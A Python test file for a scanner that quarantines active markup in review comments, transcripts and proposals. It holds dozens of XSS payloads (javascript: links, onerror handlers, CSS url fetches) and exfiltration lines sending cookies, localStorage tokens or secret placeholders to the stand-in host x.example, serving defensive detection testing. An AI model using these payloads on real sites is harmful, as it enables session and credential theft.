"""Markup that acts when free text is rendered or copied into a published file (script links,
elements that run code, event handlers, images whose URL asks for data): quarantined as
``active-markup`` in free text, unless shown as code, never in a repository file's content;
ordinary review markup (screenshots, badges, links, details) and JSX a session read stay; a
review comment, a session line or a proposal holding it never reaches the store."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from gitstore import Refused
from gitstore.capture.reviews import import_reviews
from gitstore.capture.sessions import import_transcript
from gitstore.context import Context
from gitstore.safety import active as active_module
from gitstore.safety.scanner import default_scanner
from tools.safety_eval import ordinary_texts

from .conftest import all_objects, shared
from .world import T0, Thread, claude_transcript, propose, ready_repo, ref

SCANNER = default_scanner()


def active(text: str) -> int:
    """How many times the scanner counts active markup in TEXT, scanned as free text."""
    return sum(f.count for f in SCANNER.scan(text).findings if f.kind == "active-markup")


SCRIPT_LINKS = {
    "markdown link": "See [the docs](javascript:alert(document.cookie)) first.",
    "markdown image": "![x](javascript:alert(1))",
    "mixed case": "[docs](JaVaScRiPt:alert(1))",
    "leading spaces": "[docs](   javascript:alert(1))",
    "angle brackets": "[docs](<javascript:alert(1)>)",
    "tab entity in the scheme": "[docs](java&#x09;script:alert(1))",
    "decimal entity": "[docs](&#106;avascript:alert(1))",
    "entity without semicolon": "[docs](&#106avascript:alert(1))",
    "colon entity": "[docs](javascript&colon;alert(1))",
    "reference definition": "Read [the docs][d].\n\n[d]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "vbscript": "[docs](vbscript:msgbox(1))",
    "data html": "[docs](data:text/html,<script>alert(1)</script>)",
    "data html base64": "[docs](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "html href": '<a href="javascript:alert(1)">docs</a>',
    "html href without quotes": "<a href=javascript:alert(1)>docs</a>",
    "html href single quotes": "<a href='vbscript:msgbox(1)'>docs</a>",
    "html href newline in scheme": '<a href="java\nscript:alert(1)">docs</a>',
    "html href tab in scheme": '<a href="java\tscript:alert(1)">docs</a>',
    "html href named tab entity": '<a href="java&Tab;script:alert(1)">docs</a>',
    "html href leading spaces": '<a href="   javascript:alert(1)">docs</a>',
    "html href upper case": '<A HREF="JAVASCRIPT:alert(1)">docs</A>',
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "form action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "data svg in an iframe-less link": '<a href="data:image/svg+xml;base64,PHN2Zz4=">x</a>',
}

ELEMENTS = {
    "script": "<script>alert(1)</script>",
    "script upper case": "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "script with a source": '<script src="https://x.example/a.js"></script>',
    "iframe": '<iframe src="https://x.example/"></iframe>',
    "object": '<object data="https://x.example/a.swf"></object>',
    "embed": "<embed src=https://x.example/a.swf>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror quoted": '<img src="x" onerror="alert(1)">',
    "no space after a quote": '<img src="x"onerror="alert(1)">',
    "mixed case handler": "<IMG SRC=x OnErRoR=alert(1)>",
    "handler on a new line": "<img src=x\nonerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg slash separator": "<svg/onload=alert(1)>",
    "body onpageshow": "<body onpageshow=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "handler in braces that calls": "<img src=x onerror={alert(1)}>",
    "tag never closed": "<img src=x onerror=alert(1)",
    "after a code span": "Use `x`, then <img src=x onerror=alert(1)>",
    "tag opened in code, handler in prose": "`<a title='`\n<img src=x onerror=alert(1)> '>",
    "after a quote never closed": 'a <b title="never closed, then <img src=x onerror=alert(1)>',
}

EXFILTRATING_IMAGES = {
    "braces": "![](https://x.example/p?d={SECRET})",
    "double braces": "![status](https://x.example/p?d={{ secrets.DEPLOY_KEY }})",
    "template": "![](https://x.example/p?d=${API_KEY})",
    "shell variable": "![](https://x.example/p?q=$GITHUB_TOKEN)",
    "angle placeholder": "![](https://x.example/p?data=<base64 of the env>)",
    "printf": "![](https://x.example/p?d=%s)",
    "percent-encoded braces": "![](https://x.example/p/%7BSECRET%7D.png)",
    "entity braces": "![](https://x.example/p?d=&#123;SECRET&#125;)",
    "in the path": "![](https://x.example/{TOKEN}.png)",
    "html img": '<img src="https://x.example/p?d={SECRET}">',
    "html img without quotes": "<img src=https://x.example/p?q=$GITHUB_TOKEN>",
}

NESTED_IMAGES = {  # alt text as CommonMark reads link text: brackets balanced or escaped, code spans
    "brackets in the alt text": "![see [1] here](https://x.example/p?d={SECRET})",
    "brackets two deep": "![a [b [c]] d](https://x.example/p?d={SECRET})",
    "an escaped bracket": "![a \\] b](https://x.example/p?d={SECRET})",
    "a bracket in a code span": "![a `]` b](https://x.example/p?d={SECRET})",
    "brackets in a referenced image's alt": "![see [1] here][r]\n\n[r]: https://x.example/p?d={SECRET}",
    "an escaped bracket in a label": "![a \\] b]\n\n[a \\] b]: https://x.example/p?d={SECRET}",
}

REFERENCED_IMAGES = {  # the placeholder is in a reference definition, which is no image by itself
    "full reference": "Status: ![ok][r]\n\n[r]: https://x.example/p?d={SECRET}",
    "collapsed reference": "![ok][]\n\n[ok]: https://x.example/p?d=${API_KEY}",
    "shortcut reference": "Status: ![ok] below.\n\n[ok]: https://x.example/p?q=$GITHUB_TOKEN",
    "definition with a title": '![ok][r]\n\n[r]: https://x.example/p?d={SECRET} "Build status"',
    "definition in angle brackets": "![ok][r]\n\n[r]: <https://x.example/p?d={SECRET}> 'Build'",
    "destination on the next line": "![ok][r]\n\n[r]:\n   https://x.example/p?d=%s\n   (Build)",
    "label in another case and spacing": "![ok][Build\n  Status]\n\n[build status]: https://x.example/{TOKEN}.png",
    "definition first, inside a badge link": "[r]: https://x.example/b.svg?d=&#123;KEY&#125;\n\n"
                                             "[![ok][r]](https://example.com/ci)",
    "percent-encoded": "![ok][r]\n\n[r]: https://x.example/p/%7BSECRET%7D.png",
}


REDIRECTS = {  # what sends the reader, or every relative link of the page, elsewhere unasked
    "meta refresh to a script url": '<meta http-equiv="refresh" content="0;url=javascript:alert(document.cookie)">',
    "meta refresh with a placeholder": '<meta http-equiv="refresh" content="0; url=https://x.example/p?d={SECRET}">',
    "meta refresh to an address": "<meta http-equiv=Refresh content=\"1;URL='https://x.example/login'\">",
    "meta refresh, content first": '<meta content="0,url=https://x.example/" http-equiv="refresh">',
    "meta refresh, decoded": '<meta http-equiv="&#114;efresh" content="0;url&#61;//x.example/">',
    "base": '<base href="https://x.example/">',
    "base without a scheme": "<base href=//x.example/>",
    "link fetched with a placeholder": '<link rel="preload" as="image" href="https://x.example/p?d=$TOKEN">',
    "svg image with a placeholder": '<svg><image href="https://x.example/p?d={SECRET}"/></svg>',
}

STYLES = {  # a stylesheet rules the whole page; a renderer fetches what CSS names unasked
    "style element": "<style>.review-body { display: none }</style>",
    "style element importing": "<style>@import url(https://x.example/a.css);</style>",
    "style element reading the page": '<style>input[value^="a"] { background: url(https://x.example/a) }</style>',
    "style in svg": "<svg><style>text { fill: red }</style><text>x</text></svg>",
    "linked stylesheet": '<link rel="stylesheet" href="https://x.example/a.css">',
    "style attribute with a placeholder": '<div style="background:url(https://x.example/p?d={SECRET})">x</div>',
    "style attribute with a script url": '<div style="background-image: url(javascript:alert(1))">x</div>',
    "quoted url in single quotes": "<div style='background:url(\"https://x.example/p?d=$TOKEN\")'>x</div>",
    "escaped url function": r'<div style="background:u\72l(https://x.example/p?d={SECRET})">x</div>',
    "escaped scheme": r'<p style="background:url(java\73 cript:alert(1))">x</p>',
    "comment inside the url": '<div style="background:url(/**/https://x.example/p?d=%s)">x</div>',
    "references in the attribute": '<div style="background:url(&quot;https://x.example/?d=&#123;S&#125;&quot;)">x</div>',
    "image set": "<div style=\"background:-webkit-image-set('https://x.example/{SECRET}.png' 1x)\">x</div>",
    "image set, the second address": "<div style=\"background:image-set('a.png' 1x, 'https://x.example/{SECRET}.png'"
                                     " 2x)\">x</div>",
    "image set, after a parenthesis in a string": "<div style=\"background:image-set('a).png' 1x,"
                                                  " &quot;https://x.example/?d=$TOKEN&quot; 2x)\">x</div>",
    "image set with types": "<div style=\"background:image-set('a.avif' type('image/avif'),"
                            " 'javascript:alert(1)' type('image/png'))\">x</div>",
    "css expression": '<div style="width: expression(alert(1))">x</div>',
}

ATTACKS = {**SCRIPT_LINKS, **ELEMENTS, **EXFILTRATING_IMAGES, **NESTED_IMAGES, **REFERENCED_IMAGES, **REDIRECTS, **STYLES}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_active_markup_in_free_text_is_quarantined(text: str) -> None:
    result = SCANNER.scan(text)
    assert result.quarantined and active(text) >= 1, result.findings


ORDINARY = {
    "github screenshot": "Looks off here:\n\n![image](https://github.com/user-attachments/assets/0d4a2b7c-1c2e-4b5f-9a7e-0123456789ab)",
    "html screenshot": '<img width="1024" alt="image" src="https://github.com/user-attachments/assets/0d4a2b7c-1c2e-4b5f">',
    "badge": "[![CI](https://github.com/acme/widgets/actions/workflows/ci.yml/badge.svg?branch=main)]"
             "(https://github.com/acme/widgets/actions)",
    "shields badge": "![coverage](https://img.shields.io/badge/coverage-93%25-green)",
    "dollar amount in a badge": "![price](https://img.shields.io/badge/price-$5-green)",
    "image with a title": '![diagram](https://example.com/a.png "Flow {v2}")',
    "https link": "See [the retry docs](https://example.com/docs/retry#jitter).",
    "reference definition": "See [the docs][d].\n\n[d]: https://example.com/docs",
    "mailto": '<a href="mailto:dev@example.com">mail us</a>',
    "autolink": "<https://example.com/docs>",
    "on in prose": "on error, retry; only once the lock is held, log onward",
    "details": "<details>\n<summary>Full log</summary>\n\n```\nboom\n```\n</details>",
    "br and sup": "first line<br>second<sup>1</sup> and <sub>2</sub>, <kbd>Ctrl</kbd>",
    "handler in a code span": "Drop the `<img src=x onerror=alert(1)>` test case.",
    "handler in a fence": "```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "script link in a code span": "Sanitise `[x](javascript:alert(1))` before rendering.",
    "script link in a tilde fence": "~~~md\n[x](javascript:alert(1))\n~~~",
    "talk about the words": "JavaScript: the good parts; set onload= only in tests; see `<script>` in index.html",
    "title mentioning javascript": '<a title="javascript: a guide" href="https://example.com">guide</a>',
    "handler without a value": "<input disabled onchange>",
    "comparison": "if a < b and c > d then swap",
    "type annotations": "def f(x: list[int]) -> dict[str, int]: ...\nitems[0]: int = 3",
    "xml-ish tags": "<system-reminder>\nThe user opened src/store.py\n</system-reminder>\n<tool_use_error>no</tool_use_error>",
    "png data image": "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
    "jsx handlers": "<button onClick={() => onDelete(todo.id)} className=\"x\">Delete</button>\n"
                    "<form onSubmit={handleSubmit}><input onChange={(e) => setTitle(e.target.value)} /></form>",
    "jsx image": "<img src={logo} alt=\"logo\" />",
    "referenced screenshot": "![before][shot]\n\n[shot]: https://github.com/user-attachments/assets/0d4a2b7c",
    "link (not image) to a template": "See [the docs][d].\n\n[d]: https://example.com/{version}/retry",
    "inline image beside a templated definition": "![d](https://example.com/a.png)\n\n[d]: https://example.com/{v}",
    "templated definition in a fence": "![ok][r]\n\n```md\n[r]: https://x.example/p?d={SECRET}\n```",
    "meta without a refresh": '<meta charset="utf-8">\n<meta name="viewport" content="width=device-width">',
    "meta refresh without an address": '<meta http-equiv="refresh" content="30">',
    "base without an address": '<base target="_blank">',
    "form with a templated action": '<form action="https://example.com/{id}/vote"><button>+1</button></form>',
    "link to a templated address": '<a href="https://example.com/{owner}/{repo}">repo</a>',
    "meta refresh in a fence": '```html\n<meta http-equiv="refresh" content="0;url=/new">\n<base href="/">\n```',
    "style attributes": '<p align="center" style="color:#555; text-align:center">x</p>'
                        '<div style="scroll-behavior: smooth; background: url(https://example.com/bg.png)">y</div>',
    "jsx style": "<div style={{backgroundImage:`url(${img})`}} className=\"hero\">x</div>",
    "image set of plain addresses": "<div style=\"background:image-set('a.png' 1x, 'https://example.com/b.png' 2x,"
                                    " url(c.png) 3x)\">x</div>",
    "style element in a fence": "```vue\n<style scoped>\n.x { color: red }\n</style>\n```",
    "icon link": '<link rel="icon" href="https://example.com/favicon.ico">',
    "tags named like style": "Follow <style-guide> and <styles> in the docs.",
    "image reference in a code span": "Write `![ok][r]` for it.\n\n[r]: https://example.com/{v}/a.png",
    "image, then a link to a template": "![logo](a.png) and [the docs](https://example.com/{version}/retry)",
    "link in an image's alt text": "![see [the docs](https://example.com/{v}) here](https://example.com/a.png)",
    "escaped image": "\\![x](https://example.com/{v})",
    "brackets across a blank line": "![x\n\n](https://example.com/{v})",
}


@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
def test_ordinary_review_markup_is_left_alone(text: str) -> None:
    assert active(text) == 0 and not SCANNER.scan(text).quarantined, SCANNER.scan(text).findings


def test_a_files_own_markup_is_its_authors() -> None:
    page = '<script src="app.js"></script>\n<button onclick="go()">Go</button>\n'
    assert SCANNER.scan(page).quarantined
    assert not SCANNER.scan(page, path="site/index.html").quarantined


def test_counts_are_in_findings_never_the_material() -> None:
    report = SCANNER.scan("[a](javascript:alert(1)) and <svg onload=alert(2)>").report()
    assert {"kind": "active-markup", "action": "quarantine", "count": 2} in report["findings"]
    assert "alert" not in json.dumps(report)


# what the finder hands its judges of one URL, label or tag, for each adversarial unit: a
# reference image after every definition, references and labels never closed, definitions
# with nothing after them (the scanner's speed on each is measured in ``python -m bench safety``)
ADVERSARIAL_UNITS = ["<a b=c ", '<a x="', "`<a ", "](java ", "![a](", "<a onclick={x} ", "]:&#",
                     "[r]: {x}\n![r]", "![r][", "[a", "[a]:\n", "![", "[r]: <{x}\n![r][r]",
                     "<meta http-equiv=refresh content='", "<base ", "<meta content=0;url= ", "<link href={",
                     '<a style="url(', "<a style='url(\"", '<a style="/*', '<a style="\\', '<a style="u\\72l( ',
                     "![[", "](x{y}", "![a \\]", "![a](x{y}) [", "](<{y}"]


@pytest.mark.parametrize("unit", ADVERSARIAL_UNITS)
def test_each_url_label_and_tag_is_judged_a_bounded_number_of_times(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Counted, not timed: ten times the text hands the judges about ten times the characters,
    and never more than a few times the text itself: nothing is compared with every later one."""
    looked_at = [0]

    def counting(judge: Callable[..., object]) -> Callable[..., object]:
        def judged(*values: str) -> object:
            looked_at[0] += sum(len(v) for v in values if isinstance(v, str)) + 1
            return judge(*values)
        return judged

    for name in ("asks_for_data", "is_script_url", "link_label", "_any_acts", "_refresh_url", "css_acts"):
        monkeypatch.setattr(active_module, name, counting(getattr(active_module, name)))

    def characters(size: int) -> int:
        looked_at[0] = 0
        active_module.active_markup_count((unit * (size // len(unit) + 1))[:size])
        return looked_at[0]

    small, large = characters(20_000), characters(200_000)
    assert large <= 12 * small and large <= 3 * 200_000, (small, large)


@pytest.mark.parametrize("css", ["image-set(" * 20_000 + "'a'", "image-set('a' 1x) " * 20_000,
                                 "image-set(image-set(" * 10_000 + "'{x}'" + ")" * 20_000])
def test_the_arguments_of_image_sets_are_read_once(css: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Counted, not timed: thousands of image-sets, never closed or nested, have their
    arguments read once in all, not each to the end of the text."""
    read = [0]
    whole = active_module._image_set_strings

    def counting(text: str, start: int, found: list[str]) -> int:
        end = whole(text, start, found)
        read[0] += end - start
        return end

    monkeypatch.setattr(active_module, "_image_set_strings", counting)
    acts = active_module.css_acts(css)
    assert read[0] <= len(css) and acts == ("{x}" in css)


# --- real material: review payloads and sessions ------------------------------------------------


@pytest.mark.parametrize("folder", ["reviews", "transcripts"])
def test_no_real_review_comment_or_session_text_is_active_markup(folder: str) -> None:
    """Every comment body, message and tool output of the real material, one by one (React
    components a session read included): none is active markup."""
    texts = list(ordinary_texts(shared(folder)))
    assert len(texts) > 1000
    found = [where for where, text in texts if active(text)]
    assert found == []


def test_no_real_review_comment_body_is_active_markup() -> None:
    """The bodies of the GitHub payloads, as the import hands them to the scanner."""
    bodies = []
    for path in sorted(shared("reviews").rglob("*.json")):
        payload = json.loads(path.read_text(encoding="utf-8"))
        for key in ("comment", "review", "issue", "pull_request"):
            if isinstance(payload.get(key), dict) and payload[key].get("body"):
                bodies.append(payload[key]["body"])
    assert bodies
    assert [b for b in bodies if active(b)] == []


# --- end to end: nothing active reaches the store -----------------------------------------------


def test_review_comments_with_active_markup_are_not_imported(tmp_path: Path) -> None:
    ctx = ready_repo(tmp_path / "hello", origin="https://github.com/Codertocat/Hello-World.git")
    template = json.loads(shared("reviews", "octokit-webhooks", "pull_request_review_comment",
                                 "created.payload.json").read_text())["comment"]
    bodies = ["See [the docs](javascript:fetch('//x.example/'+document.cookie)) first.",
              "Build badge: ![ok](https://x.example/b.svg?d={GITHUB_TOKEN})",
              "Screenshot:\n\n![image](https://github.com/user-attachments/assets/0d4a2b7c-1c2e-4b5f)"]
    comments = []
    for n, body in enumerate(bodies):
        comment = copy.deepcopy(template)
        comment.update(id=2000 + n, body=body, created_at=f"2019-05-15T15:0{n}:00Z", updated_at=f"2019-05-15T15:0{n}:00Z")
        comments.append(comment)
    snapshot = {"format": "gitstore.github-snapshot/1", "repository": "Codertocat/Hello-World", "pullRequest": 2,
                "head": {"ref": "changes", "sha": "ec26c3e57ca3a959ca5aad62de7213c562f8c821"},
                "responses": [{"collection": "pull-comments", "page": 1, "link": "", "body": comments},
                              {"collection": "reviews", "page": 1, "link": "", "body": []},
                              {"collection": "issue-comments", "page": 1, "link": "", "body": []}]}
    path = tmp_path / "snap.json"
    path.write_text(json.dumps(snapshot))
    report = import_reviews(ctx, path, "github:9")
    assert report.record["counts"]["comments"] == 1  # the screenshot only
    objects = all_objects(ctx.workspace.root)
    assert b"document.cookie" not in objects and b"GITHUB_TOKEN" not in objects
    assert b"user-attachments/assets/0d4a2b7c" in objects


def test_a_session_line_with_active_markup_is_withheld(tmp_path: Path) -> None:
    ctx = ready_repo(tmp_path / "widgets")
    transcript = claude_transcript(tmp_path / "s.jsonl", [
        ("user", "Add the retry note to the wiki."),
        ("assistant", "Done; the page links <img src=x onerror=fetch('//x.example/'+localStorage.token)> too."),
        ("user", "Thanks, now run the linter."),
    ])
    result = import_transcript(ctx, transcript, mode="transcript")
    assert result.receipt["lines"]["quarantined"] >= 1 and "quarantined" in result.receipt["reasons"]
    objects = all_objects(ctx.workspace.root)
    assert b"localStorage.token" not in objects and b"run the linter" in objects


def test_a_proposal_with_active_markup_is_refused_and_nothing_is_stored(tmp_path: Path) -> None:
    ctx = ready_repo(tmp_path / "widgets")
    thread = Thread(ctx, 7, "c7")
    event = thread.comment("c7", "Retry loops use jitter.", T0)
    thread.save()
    with pytest.raises(Refused, match="active-markup"):
        propose(ctx, [ref(event)], text="Retries use jitter; see [the guide](javascript:alert(document.cookie)).")
    stored = Context.open(str(ctx.workspace.root)).store.items(["learning"], payloads=True)
    assert not any("document.cookie" in json.dumps(i.record) for i in stored)


def test_the_alt_text_of_nested_images_is_read_as_a_label_a_bounded_number_of_times(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Counted, not timed: images nested thousands deep each have all the images inside them as
    alt text; a label holds at most 999 characters, so no alt text longer is read as one."""
    looked_at = [0]
    label = active_module.link_label

    def counting(value: str) -> str:
        looked_at[0] += len(value) + 1
        return label(value)

    monkeypatch.setattr(active_module, "link_label", counting)

    def characters(depth: int) -> int:
        looked_at[0] = 0
        assert active_module.active_markup_count("[r]: {x}\n" + "![" * depth + "]" * depth) == 0
        return looked_at[0]

    small, large = characters(3_000), characters(30_000)
    assert large <= 12 * small and large <= 3 * 5 * 30_000, (small, large)


def test_a_reference_image_after_images_nested_deep_is_still_found() -> None:
    depth = 30_000
    assert active("[r]: https://x.example/p?d={SECRET}\n" + "![" * depth + "]" * depth + " ![r] ![ok][r]") == 2
